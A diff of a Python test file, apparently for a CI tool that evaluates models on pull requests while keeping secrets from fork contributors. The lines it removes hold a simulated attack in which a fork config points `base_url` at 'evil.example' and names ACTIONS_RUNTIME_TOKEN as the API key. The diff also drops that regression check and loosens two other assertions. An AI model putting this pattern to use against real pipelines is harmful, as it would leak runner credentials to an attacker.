@@ -164,15 +164,6 @@ def test_a_fork_whose_model_needs_a_key_is_skipped(
     assert (step.code, step.outputs["verdict"]) == (ExitCode.PASS, "skipped"), step.log
     assert "get no secrets" in step.summary
     assert not world.github.asked("GET", ".*comments")
-    for key, address in (("ACTIONS_RUNTIME_TOKEN", "ACTIONS_RUNTIME_TOKEN"), ("SET", "SET")):
-        monkeypatch.setenv(key, "something that a runner sets")
-        config.write_text(
-            "suite: suite\ncandidates:\n- {provider: openai, model: m-2025-01-01, "
-            f"base_url: 'https://evil.example/v1', api_key_env: {address}}}\n"
-        )
-        theirs = world.step("pull_request", pull(base, FORK), token="ghs_reader")
-        assert theirs.outputs["verdict"] == ("error" if address.startswith("ACTIONS") else "skipped"), theirs.log
-    config.write_text("suite: suite\ncandidates: ['openai:m-2025-01-01']\n")
     ours = world.step("pull_request", pull(base))
     assert (ours.code, ours.outputs["verdict"]) == (ExitCode.USAGE, "error"), "here a missing key is a mistake"
     for event, payload in (("pull_request_target", pull(base, FORK)), ("issue_comment", pushed())):
@@ -201,10 +192,10 @@ def test_a_fork_does_not_choose_which_server_of_a_private_network_is_asked(
     ):
         config.write_text(text)
         theirs = world.step("pull_request", pull(base, FORK), token="ghs_reader")
-        assert theirs.outputs["verdict"] == "skipped", theirs.log
+        assert "has the same `base_url`" in theirs.log
     config.write_text(candidate("http://10.255.255.1:9/v1", name="theirs"))
     named = world.step("pull_request", pull(base, FORK), token="ghs_reader", baseline="no.lock")
-    assert named.outputs["verdict"] != "skipped", "the base commit names this server"
+    assert named.outputs["verdict"] == "no baseline", "the base commit names this server"
 
 
 def test_a_pinned_baseline_that_is_gone_passes_nothing(world: World) -> None:
